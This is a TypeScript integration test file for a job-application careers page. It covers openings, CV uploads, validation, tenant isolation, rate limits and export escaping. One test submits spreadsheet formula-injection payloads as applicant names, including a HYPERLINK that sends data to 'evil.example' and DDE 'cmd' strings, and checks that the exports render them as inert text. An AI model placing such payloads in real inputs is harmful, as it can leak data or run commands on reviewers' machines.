import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { beforeAll, expect, it } from 'vitest';
import type { CareersOpenings, CareersReceipt } from '../../src/shared/api/careers';
import type { RecordItem, RecordListResponse } from '../../src/shared/api/records';
import { dateAfter } from '../../src/server/timekeeping/schedule-calendar';
import { ApiCaller, errorOf, signIn } from './support/api-client';
import { multipart } from './support/multipart';
import { describeOnEachDatabase } from './support/on-each-database';
import { outboxItems } from './support/outbox';
import { todayAtWork } from './support/work-dates';

const PDF = Buffer.from('%PDF-1.4\n% a CV\n');

/** What a candidate types on the careers page. */
const answers = (openingId: string, email: string) => ({
  openingId,
  firstName: 'Liza',
  lastName: 'Domingo',
  email,
  mobile: '+639175550101',
  yearsOfExperience: 4,
  expectedSalary: 35_000_00,
  notes: 'Four years of payroll in a BPO.',
});

describeOnEachDatabase('the careers page', (current) => {
  let visitor: ApiCaller;
  let hr: ApiCaller;
  let openingId: string;

  beforeAll(async () => {
    visitor = new ApiCaller(current().app, 'acme');
    hr = await signIn(current().app, 'acme', 'hr');
    const today = todayAtWork();
    // HR's own employee record hires for it, so the new-applicant mail goes to HR.
    const manager = (
      await hr.call('POST', '/api/records/list', {
        body: { form_id: 'ers-employee', employeeNumber: hr.account.employeeNumber },
      })
    ).json<RecordListResponse>().items[0];
    const opening = await hr.call('POST', '/api/records', {
      body: {
        form_id: 'ats-job-opening',
        data: {
          code: 'JO-2026-901',
          title: 'Payroll analyst',
          department: 'Finance',
          openings: 1,
          postedOn: dateAfter(today, -1),
          closesOn: dateAfter(today, 30),
          qualifications: 'Two years of payroll',
          status: 'Open',
          hiringManager: {
            id: manager?.id,
            label: 'HR',
            employeeNumber: hr.account.employeeNumber,
          },
        },
      },
    });
    expect(opening.statusCode, opening.body).toBe(201);
    openingId = opening.json<RecordItem>().id;
  });

  const apply = (
    caller: ApiCaller,
    body: unknown,
    cv = PDF,
    type = 'application/pdf',
    org = 'acme',
    ip = '198.51.100.7',
  ) => {
    const upload = multipart('liza-domingo-cv.pdf', type, cv, {
      part: 'cv',
      fields: { application: JSON.stringify(body) },
    });
    return caller.call('POST', `/api/careers/${org}/applications`, {
      body: upload.payload,
      headers: { 'content-type': upload.contentType },
      ip,
    });
  };

  it('lists the open openings to anyone, and none of another organisation', async () => {
    const response = await visitor.call('GET', '/api/careers/acme/openings');
    expect(response.statusCode).toBe(200);
    const { organization, openings } = response.json<CareersOpenings>();
    expect(organization).toBe('Acme Corporation');
    expect(openings.find((opening) => opening.id === openingId)).toMatchObject({
      title: 'Payroll analyst',
      department: 'Finance',
      qualifications: 'Two years of payroll',
    });
    expect(openings.every((opening) => opening.code !== 'JO-2026-003')).toBe(true);
    const icare = await new ApiCaller(current().app, 'icare').call(
      'GET',
      '/api/careers/icare/openings',
    );
    expect(icare.json<CareersOpenings>().openings.some((opening) => opening.id === openingId)).toBe(
      false,
    );
    const stranger = new ApiCaller(current().app, 'nowhere');
    expect((await stranger.call('GET', '/api/careers/nowhere/openings')).statusCode).toBe(404);
  });

  it('makes an application an applicant at Applied with the CV, and tells the hiring manager', async () => {
    const response = await apply(visitor, answers(openingId, 'liza@example.com'));
    expect(response.statusCode, response.body).toBe(201);
    const receipt = response.json<CareersReceipt>();
    expect(receipt).toMatchObject({
      opening: 'Payroll analyst',
      reference: expect.stringMatching(/^APP-[0-9A-F]{8}$/) as string,
    });

    const found = (
      await hr.call('POST', '/api/records/list', {
        body: { form_id: 'ats-applicant', q: 'liza@example.com', fields: ['*'] },
      })
    ).json<RecordListResponse>();
    expect(found.items).toHaveLength(1);
    const applicant = found.items[0];
    expect(applicant?.createdBy).toBe('careers page');
    expect(applicant?.data).toMatchObject({
      firstName: 'Liza',
      stage: 'Applied',
      appliedOn: todayAtWork(),
      expectedSalary: 35_000_00,
      jobOpening: { id: openingId, label: 'JO-2026-901, Payroll analyst' },
      source: { label: 'Careers page' },
      cv: { name: 'liza-domingo-cv.pdf', type: 'application/pdf' },
      notes: 'Four years of payroll in a BPO.',
    });
    // HR reads the CV through the applicant record; a co-worker who learnt its id does not.
    const cvUrl = `/api/files/${(applicant?.data.cv as { id: string }).id}`;
    const cv = await hr.call('GET', cvUrl);
    expect(cv.rawPayload.equals(PDF)).toBe(true);
    const employee = await signIn(current().app, 'acme', 'employee');
    expect((await employee.call('GET', cvUrl)).statusCode).toBe(404);

    const admin = await signIn(current().app, 'acme', 'admin');
    expect(
      (await outboxItems(admin)).some(
        (mail) => mail.subject === 'New applicant for Payroll analyst: Liza Domingo',
      ),
    ).toBe(true);
  });

  it('refuses a second application of the same e-mail to the same opening', async () => {
    const again = await apply(visitor, answers(openingId, 'LIZA@example.com'));
    expect(again.statusCode).toBe(409);
    expect(errorOf(again).fields).toEqual([
      { path: '/application/email', message: 'This e-mail has already applied for it' },
    ]);
  });

  it('refuses bad answers, a closed opening, a missing or foreign CV, naming the part, and writes nothing', async () => {
    const bad = await apply(visitor, {
      ...answers(openingId, 'not-an-email'),
      yearsOfExperience: 99,
    });
    expect(bad.statusCode).toBe(422);
    expect(
      errorOf(bad)
        .fields?.map((field) => field.path)
        .sort(),
    ).toEqual(['/application/email', '/application/yearsOfExperience']);
    const closed = (await visitor.call('GET', '/api/careers/acme/openings'))
      .json<CareersOpenings>()
      .openings.map((opening) => opening.id);
    const filled = (
      await hr.call('POST', '/api/records/list', {
        body: { form_id: 'ats-job-opening', q: 'JO-2026-003' },
      })
    ).json<RecordListResponse>().items[0]?.id;
    expect(closed).not.toContain(filled);
    const toClosed = await apply(visitor, answers(filled ?? '', 'someone@example.com'));
    expect(errorOf(toClosed).fields).toEqual([
      { path: '/application/openingId', message: 'This opening is not taking applications now' },
    ]);
    const exe = await apply(
      visitor,
      answers(openingId, 'exe@example.com'),
      Buffer.from('MZ'),
      'application/x-msdownload',
    );
    expect(errorOf(exe).fields).toEqual([
      { path: '/cv', message: 'CV must be a PDF or Word document' },
    ]);
    const json = await visitor.call('POST', '/api/careers/acme/applications', {
      body: answers(openingId, 'json@example.com'),
    });
    expect(json.statusCode).toBeGreaterThanOrEqual(400);
    expect(json.statusCode).toBeLessThan(500);
    const names = (
      await hr.call('POST', '/api/records/list', {
        body: { form_id: 'ats-applicant', q: 'example.com' },
      })
    ).json<RecordListResponse>().items;
    expect(names).toHaveLength(1);
  });

  it('applies only to the organisation in the path, and another organisation never sees it', async () => {
    const crossed = await apply(
      new ApiCaller(current().app, 'icare'),
      answers(openingId, 'x@example.com'),
      PDF,
      'application/pdf',
      'acme',
    );
    expect(crossed.statusCode).toBe(403);
    const elsewhere = await apply(
      new ApiCaller(current().app, 'icare'),
      answers(openingId, 'y@example.com'),
      PDF,
      'application/pdf',
      'icare',
    );
    expect(errorOf(elsewhere).fields?.[0]?.path).toBe('/application/openingId');
    const icareHr = await signIn(current().app, 'icare', 'hr');
    const theirs = (
      await icareHr.call('POST', '/api/records/list', {
        body: { form_id: 'ats-applicant', q: 'Domingo' },
      })
    ).json<RecordListResponse>();
    expect(theirs.total).toBe(0);
  });

  it("writes what an applicant typed into HR's exports as text, never as a live formula", async () => {
    const typed = {
      firstName: '=HYPERLINK("https://evil.example/?d="&A2,"CV")',
      lastName: "@SUM(1+1)*cmd|' /C calc'!A0",
      notes: "-2+3+cmd|' /C calc'!A0",
    };
    const email = 'formula@example.com';
    const filed = await apply(
      visitor,
      { ...answers(openingId, email), ...typed },
      PDF,
      'application/pdf',
      'acme',
      '198.51.100.8',
    );
    expect(filed.statusCode, filed.body).toBe(201);
    const exported = (format: 'csv' | 'xlsx') =>
      hr.call('POST', '/api/records/export', {
        body: { form_id: 'ats-applicant', format, q: email },
      });

    const csv = await exported('csv');
    expect(csv.statusCode, csv.body).toBe(200);
    const [header, row] = Papa.parse<string[]>(csv.body.replace(/^\ufeff/, ''), {
      skipEmptyLines: true,
    }).data;
    const cell = (title: string) => row?.[header?.indexOf(title) ?? -1];
    // A leading apostrophe makes a spreadsheet show the text instead of running it.
    expect(cell('First name')).toBe(`'${typed.firstName}`);
    expect(cell('Last name')).toBe(`'${typed.lastName}`);
    expect(cell('Notes')).toBe(`'${typed.notes}`);
    expect(cell('Email')).toBe(email);

    const xlsx = await exported('xlsx');
    expect(xlsx.statusCode).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.rawPayload as never);
    const sheet = workbook.worksheets[0]!;
    const titles = sheet.getRow(1).values as unknown[];
    for (const [title, text] of [
      ['First name', typed.firstName],
      ['Last name', typed.lastName],
      ['Notes', typed.notes],
    ] as const) {
      const written = sheet.getRow(2).getCell(titles.indexOf(title));
      // A workbook's cell is typed: text stays text, exactly as typed.
      expect(written.type, title).toBe(ExcelJS.ValueType.String);
      expect(written.value, title).toBe(text);
    }
  });

  it('takes a few applications an hour from one address', async () => {
    const statuses: number[] = [];
    for (let n = 0; n < 6; n += 1)
      statuses.push((await apply(visitor, answers(openingId, `many${n}@example.com`))).statusCode);
    // One was filed above from this address; four more are taken, then it must wait.
    expect(statuses).toEqual([201, 201, 201, 201, 429, 429]);
  });
});
